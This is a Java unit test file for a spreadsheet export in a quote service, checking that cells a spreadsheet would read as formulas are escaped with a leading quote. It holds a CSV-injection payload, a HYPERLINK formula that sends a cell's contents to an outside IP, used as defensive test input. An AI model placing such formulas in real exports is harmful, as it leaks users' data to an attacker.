package dev.kurs.service.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import dev.kurs.journal.readmodel.ReadModelExport.Leg;
import dev.kurs.journal.readmodel.ReadModelExport.QuoteLine;
import dev.kurs.protocol.message.sbe.Side;
import dev.kurs.protocol.port.QuoteArchive.State;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.math.BigInteger;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExportRowsTest {
    private static final String FORMULA = "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"ok\")";

    private static String written(ExportFormat format, String clientRef, String partnerName, BigInteger amount) {
        StringWriter out = new StringWriter();
        ExportRows rows = new ExportRows(new PrintWriter(out), format);
        rows.quote(new QuoteLine(
                7,
                "0x07",
                Optional.of(clientRef),
                "55000000-0000-0000-0000-000000000003",
                partnerName,
                "USDT-IDRX",
                Side.SELL,
                "0x0a",
                new Leg("USDT", 6, amount),
                new Leg("IDRX", 2, amount),
                16_300_000_000_000_000L,
                1_000_000_000,
                250_000,
                1_795_132_800L,
                1_795_132_860L,
                State.OPEN));
        rows.flush();
        return out.toString();
    }

    private static NamedCsvRecord csv(String clientRef, String partnerName, BigInteger amount) {
        String text = written(ExportFormat.CSV, clientRef, partnerName, amount);
        return CsvReader.builder().ofNamedCsvRecord(text).stream().findFirst().orElseThrow();
    }

    @ParameterizedTest
    @ValueSource(strings = {FORMULA, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uFF1D1", "'=1", "'"})
    void shouldWriteNoCellThatASpreadsheetTakesForAFormula(String chosen) {
        NamedCsvRecord row = csv(chosen, chosen, BigInteger.ONE);

        assertEquals("'" + chosen, row.getField("client_ref"));
        assertEquals("'" + chosen, row.getField("partner"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"order 7", "a=1", "1-2", "x\0y", " =1"})
    void shouldLeaveOtherTextsAsTheyAre(String chosen) {
        assertEquals(chosen, csv(chosen, chosen, BigInteger.ONE).getField("client_ref"));
    }

    @Test
    void shouldLeaveNumbersAlone() {
        NamedCsvRecord row = csv("order 7", "Nusantara", BigInteger.valueOf(-1_500_000));

        assertEquals("-1.500000", row.getField("source_amount"));
        assertEquals("-1500000", row.getField("source_amount_raw"));
    }

    @Test
    void shouldWriteJsonLinesExactly() {
        String line = written(ExportFormat.JSONL, "=1\0", "@desk", BigInteger.ONE);

        assertTrue(line.contains("\"client_ref\":\"=1\\u0000\""), line);
        assertTrue(line.contains("\"partner\":\"@desk\""), line);
    }
}
